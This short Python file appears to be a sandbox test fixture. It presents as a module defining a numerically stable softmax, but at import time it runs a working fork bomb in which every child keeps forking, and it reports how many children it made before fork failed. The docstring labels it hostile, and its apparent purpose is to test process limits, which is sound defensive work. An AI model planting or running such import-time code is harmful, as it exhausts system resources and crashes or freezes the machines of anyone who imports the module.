"""Hostile: a fork bomb at import (every child forks too); the parent reports when fork fails."""
import os
import time

import numpy as np

children = 0
try:
    while True:
        pid = os.fork()
        if pid == 0:
            try:
                while True:
                    os.fork()
            except OSError:
                pass
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as exc:
    print(f"FORK: limited after {children} children: {exc}", flush=True)


def softmax(x, axis=-1):
    m = np.max(x, axis=axis, keepdims=True)
    m = np.where(np.isneginf(m), 0, m)
    with np.errstate(divide="ignore", over="ignore"):
        lse = m + np.log(np.sum(np.exp(x - m), axis=axis, keepdims=True))
        out = np.exp(x - lse)
    return np.where(np.isneginf(lse), 0, out).astype(x.dtype)
